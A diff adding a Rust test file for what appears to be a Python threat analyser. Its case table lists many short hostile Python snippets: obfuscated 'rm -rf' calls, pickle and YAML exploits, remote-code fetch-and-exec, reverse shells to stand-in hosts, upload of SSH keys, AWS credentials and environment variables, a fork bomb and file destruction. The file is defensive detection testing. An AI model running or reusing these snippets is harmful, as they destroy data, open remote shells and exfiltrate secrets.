@@ -1,0 +1,224 @@
+//! Dangerous programs, and the one line that must be said about each.
+
+use super::recorder::{recorded, said};
+
+const CASES: &[(&str, &str)] = &[
+    // Ways to a shell.
+    ("import os\nos.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os as o\no.popen('rm -rf /x').read()", "shell: rm -rf /x"),
+    ("from os import *\nsystem('rm -rf /x')", "shell: rm -rf /x"),
+    ("from subprocess import run as r\nr('rm -rf /x', shell=True)", "shell: rm -rf /x"),
+    ("import subprocess\nsubprocess.run(['rm', '-rf', '/x'])", "run rm -rf /x"),
+    ("import subprocess\nsubprocess.call('rm -rf /x'.split())", "run rm -rf /x"),
+    ("import subprocess, shlex\nsubprocess.Popen(shlex.split(\"rm -rf '/x y'\"))", "run rm -rf /x y"),
+    ("import subprocess\nsubprocess.run(['x', '-c', 'id'], executable='/bin/sh')", "run /bin/sh -c id"),
+    ("import subprocess\nsubprocess.run(['bash'], input=b'rm -rf /x')", "run bash <<< rm -rf /x"),
+    (
+        "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /x')",
+        "run bash <<< rm -rf /x",
+    ),
+    (
+        "import subprocess\np = subprocess.Popen('sh', stdin=-1)\np.stdin.write(b'rm -rf /x')",
+        "run sh <<< rm -rf /x",
+    ),
+    ("import os\nos.execl('/bin/sh', 'sh', '-c', 'rm -rf /x')", "run /bin/sh -c rm -rf /x"),
+    ("import os\nos.spawnvp(os.P_WAIT, 'rm', ['rm', '-rf', '/x'])", "run rm -rf /x"),
+    ("import pty\npty.spawn('/bin/bash')", "run /bin/bash"),
+    (
+        "import asyncio\nasync def f():\n  await asyncio.create_subprocess_exec('rm', '-rf', '/x')\nasyncio.run(f())",
+        "run rm -rf /x",
+    ),
+    (
+        "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b'rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    ("import ctypes\nctypes.CDLL(None).system(b'rm -rf /x')", "shell: rm -rf /x"),
+    // Ways to a module or a function.
+    ("import shutil\nshutil.os.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("__import__('o' + 's').__dict__['system']('rm -rf /x')", "shell: rm -rf /x"),
+    ("getattr(__import__('os'), ''.join(['sys', 'tem']))('rm -rf /x')", "shell: rm -rf /x"),
+    ("import sys\nsys.modules['posix'].system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\nglobals()['os'].system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\nvars(os)['system']('rm -rf /x')", "shell: rm -rf /x"),
+    ("__builtins__.__dict__['eval'](\"__import__('os').system('rm -rf /x')\")", "shell: rm -rf /x"),
+    (
+        "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    ("import operator, os\noperator.attrgetter('system')(os)('rm -rf /x')", "shell: rm -rf /x"),
+    ("import operator, os\noperator.methodcaller('system', 'rm -rf /x')(os)", "shell: rm -rf /x"),
+    ("import functools, os\nfunctools.partial(os.system, 'rm -rf /x')()", "shell: rm -rf /x"),
+    ("import os\nf = {'a': os.system}\nf['a']('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\n(lambda f, x: f(x))(os.system, 'rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import os\nclass A:\n  def __init__(self, c): self.c = c\n  def go(self): os.system(self.c)\nA('rm -rf /x').go()",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nclass A:\n  run = staticmethod(os.system)\nA.run('rm -rf /x')", "shell: rm -rf /x"),
+    (
+        "import os\nclass A:\n  def __enter__(self): os.system('rm -rf /x')\n  def __exit__(self, *a): pass\nwith A(): pass",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nclass A:\n  @property\n  def p(self): os.system('rm -rf /x')\nA().p", "shell: rm -rf /x"),
+    ("import os\nclass A:\n  def __del__(self): os.system('rm -rf /x')\nA()", "shell: rm -rf /x"),
+    (
+        "import threading, os\nclass T(threading.Thread):\n  def run(self): os.system('rm -rf /x')\nT().start()",
+        "shell: rm -rf /x",
+    ),
+    (
+        "import concurrent.futures as c, os\nwith c.ThreadPoolExecutor() as e: e.submit(os.system, 'rm -rf /x')",
+        "shell: rm -rf /x",
+    ),
+    (
+        "from multiprocessing import Pool\nimport os\nPool(2).map(os.system, ['rm -rf /x'])",
+        "shell: rm -rf /x",
+    ),
+    (
+        "import signal, os\nsignal.signal(signal.SIGALRM, lambda s, f: os.system('rm -rf /x'))",
+        "shell: rm -rf /x",
+    ),
+    ("import os\n[os.system(c) for c in ['rm -rf /x']]", "shell: rm -rf /x"),
+    ("import os\nif (n := len('ab')) > 1: os.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os, sys\nmatch sys.argv:\n  case [a, *b]:\n    os.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\ntry:\n  1/0\nexcept ZeroDivisionError:\n  os.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\ndef f(a, *, b='/x'):\n  return a + b\nos.system(f('rm -rf '))", "shell: rm -rf /x"),
+    ("import os\ndef g():\n  yield 'rm -rf /x'\nfor c in g(): os.system(c)", "shell: rm -rf /x"),
+    ("import os, sys\nc = 'ls' if sys.argv else 'rm -rf /x'\nos.system(c)", "shell: rm -rf /x"),
+    ("import os, sys\nif sys.argv[1]: c = 'ls'\nelse: c = 'rm -rf /x'\nos.system(c)", "shell: rm -rf /x"),
+    ("𝓲𝓶𝓹𝓸𝓻𝓽 = 1\nimport os\n𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮('rm -rf /x')", "shell: rm -rf /x"),
+    ("exec('import os')\nos.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("c = 'rm -rf /x'\nexec('import os; os.system(c)')", "shell: rm -rf /x"),
+    ("eval('__import__(\"os\")').system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'rm -rf /x'\\ntR.\")", "shell: rm -rf /x"),
+    ("import yaml\nyaml.load(\"!!python/object/apply:os.system ['rm -rf /x']\")", "shell: rm -rf /x"),
+    ("print 'hello'\nimport os\nos.system('rm -rf /x')", "shell: rm -rf /x"),
+    ("import os\nthis is not python\nos.system('rm -rf /x')", "shell: rm -rf /x"),
+    // Ways to a text.
+    ("import os\nos.system(f\"rm -{'r'}f {'/' + 'x'}\")", "shell: rm -rf /x"),
+    ("import os\nos.system('%s -%s %s' % ('rm', 'rf', '/x'))", "shell: rm -rf /x"),
+    ("import os\nos.system('{0} -rf {p}'.format('rm', p='/x'))", "shell: rm -rf /x"),
+    ("import os\nos.system('x/ fr- mr'[::-1])", "shell: rm -rf /x"),
+    ("import os\nos.system(''.join(reversed('x/ fr- mr')))", "shell: rm -rf /x"),
+    (
+        "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47, 120]))",
+        "shell: rm -rf /x",
+    ),
+    ("import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47, 120]).decode())", "shell: rm -rf /x"),
+    ("import os\nos.system(''.join(chr(ord(c) - 1) for c in 'sn!.sg!0y'))", "shell: rm -rf /x"),
+    ("import os\nos.system('aa -rf /x'.replace('aa', 'rm'))", "shell: rm -rf /x"),
+    ("import os\nos.system('ez -es /k'.translate(str.maketrans('ezsk', 'rmfx')))", "shell: rm -rf /x"),
+    ("import os, codecs\nos.system(codecs.decode('726d202d7266202f78', 'hex').decode())", "shell: rm -rf /x"),
+    ("import os, binascii\nos.system(binascii.unhexlify('726d202d7266202f78'))", "shell: rm -rf /x"),
+    ("import os, base64\nos.system(base64.b32decode('OJWSALLSMYQC66A=').decode())", "shell: rm -rf /x"),
+    ("import os, base64\nos.system(base64.b85decode('a%~_ja%Lbecm').decode())", "shell: rm -rf /x"),
+    ("import os\nc = []\nc.append('rm')\nc += ['-rf', '/x']\nos.system(' '.join(c))", "shell: rm -rf /x"),
+    ("import os\ns = ''\nfor p in ('rm ', '-rf ', '/x'):\n  s += p\nos.system(s)", "shell: rm -rf /x"),
+    ("import os\nk = 7\nos.system(''.join(chr(b ^ k) for b in b\"uj'*ua'(\\x7f\"))", "shell: rm -rf /x"),
+    // Files.
+    ("import os\nos.remove('/etc/passwd')", "Delete /etc/passwd"),
+    ("from pathlib import Path\n(Path('/etc') / 'passwd').unlink()", "Delete /etc/passwd"),
+    ("from pathlib import Path\nfor p in Path('/').rglob('*'): p.unlink()", "Delete /**"),
+    ("import os\nfor e in os.scandir('/home'): os.remove(e.path)", "Delete /home/*"),
+    ("import shutil, os\nshutil.rmtree(os.environ['HOME'])", "Delete /home/user (recursive)"),
+    ("import shutil\nlist(map(shutil.rmtree, ['/a', '/b']))", "Delete /b (recursive)"),
+    ("open('/etc/passwd', 'w').close()", "Write /etc/passwd (emptying)"),
+    ("with open('/etc/passwd', 'a') as f: print('x', file=f)", "Write /etc/passwd (appending)"),
+    ("import os\nfd = os.open('/dev/sda', os.O_WRONLY)\nos.write(fd, b'x')", "Write /dev/sda (in place)"),
+    ("import os\nos.rename('/etc/passwd', '/tmp/p')", "Delete /etc/passwd (moving)"),
+    ("import os\nos.symlink('/tmp/x', '/usr/bin/ls')", "Link /usr/bin/ls"),
+    ("import os, stat\nos.chmod('/x', stat.S_ISUID | 0o755)", "ChangeMode /x (setuid) (executable)"),
+    ("import os\nos.chown('/x', 0, 0)", "ChangeOwner /x (to root)"),
+    (
+        "import shutil, urllib.request\nwith urllib.request.urlopen('http://h/x') as r, open('/tmp/x', 'wb') as f:\n  shutil.copyfileobj(r, f)",
+        "Write /tmp/x (emptying) [network]",
+    ),
+    (
+        "import urllib.request\nurllib.request.urlretrieve('http://h/x', '/tmp/x')",
+        "Write /tmp/x (emptying) [network]",
+    ),
+    // Code from elsewhere.
+    (
+        "import requests\nexec(requests.get('http://h/x').text)",
+        "python: <the content of http://h/x> [network]",
+    ),
+    ("import os, requests\nos.system(requests.get('http://h/x').json()['cmd'])", "[network]"),
+    (
+        "import base64, requests\nexec(base64.b64decode(requests.get('http://h/x').content))",
+        "[network] [decoded]",
+    ),
+    (
+        "import importlib.util as u\ns = u.spec_from_file_location('m', '/tmp/m.py')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)",
+        "script python /tmp/m.py",
+    ),
+    // Connections.
+    (
+        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
+        "(remotely controlled)",
+    ),
+    (
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.check_output(c, shell=True))",
+        "(remotely controlled)",
+    ),
+    (
+        "import socket, subprocess\ns = socket.create_connection(('h', 1))\nsubprocess.Popen('sh', stdin=s, stdout=s)",
+        "(remotely controlled)",
+    ),
+    ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 9))\ns.listen()", "Listen 0.0.0.0:9"),
+    (
+        "import requests, os\nrequests.post('http://h', json=dict(os.environ))",
+        "Send http://h (uploading) [secret]",
+    ),
+    ("import requests, os\nrequests.post('http://h', json=dict(os.environ))", "Read Environment [secret]"),
+    ("import os\nprint(os.environ)", "Read Environment [secret]"),
+    ("import os, json\nprint(json.dumps(dict(os.environ)))", "Read Environment [secret]"),
+    ("import os\nfor k, v in os.environ.items(): print(k, v)", "Read Environment [secret]"),
+    (
+        "import requests\nrequests.post('http://h', files={'f': open('/root/.ssh/id_rsa')})",
+        "Send http://h (uploading) [secret] [file]",
+    ),
+    (
+        "import requests\nrequests.get('http://h/?' + open('/root/.ssh/id_rsa').read())",
+        "(uploading) [secret] [file]",
+    ),
+    (
+        "import urllib.request as u\nr = u.Request('http://h', data=open('/root/.aws/credentials', 'rb').read())\nu.urlopen(r)",
+        "Send http://h (uploading) [secret] [file]",
+    ),
+    (
+        "import paramiko\nc = paramiko.SSHClient()\nc.connect('h')\nc.exec_command('rm -rf /x')",
+        "enter Remote",
+    ),
+    // The machine.
+    ("import os\nwhile True: os.fork()", "Exhaust None"),
+    ("import os\nos.kill(-1, 9)", "Kill Process(All) (with SIGKILL)"),
+    ("import os\nos.setuid(0)", "Escalate None (to root)"),
+    (
+        "import sqlite3\nc = sqlite3.connect('x')\nc.cursor().execute('DROP TABLE users')",
+        "sql: DROP TABLE users",
+    ),
+    ("import code\ncode.interact()", "Execute Code(Python, None) (interactive)"),
+];
+
+#[test]
+fn each_program_is_understood() {
+    let wrong: Vec<String> = CASES
+        .iter()
+        .filter(|(program, line)| !said(program).iter().any(|said| said.contains(line)))
+        .map(|(program, line)| format!("{program}\n   wanted: {line}\n   said: {:#?}", said(program)))
+        .collect();
+    assert!(wrong.is_empty(), "{} misunderstood:\n{}", wrong.len(), wrong.join("\n\n"));
+}
+
+#[test]
+fn what_is_said_stands_where_it_is_written() {
+    let text = "import os\nos.system('id')\n";
+    let spans = recorded(text).spans;
+    let shown: Vec<&str> = spans.iter().map(|span| &text[span.start as usize..span.end as usize]).collect();
+    assert_eq!(shown, ["os.system('id')"]);
+}
+
+#[test]
+fn a_broken_line_is_a_gap_and_the_rest_is_read() {
+    let lines = said("import os\nx = = 1\nos.remove('/x')\n");
+    assert_eq!(lines, ["gap Whole Syntax = 1", "Delete /x"]);
+}
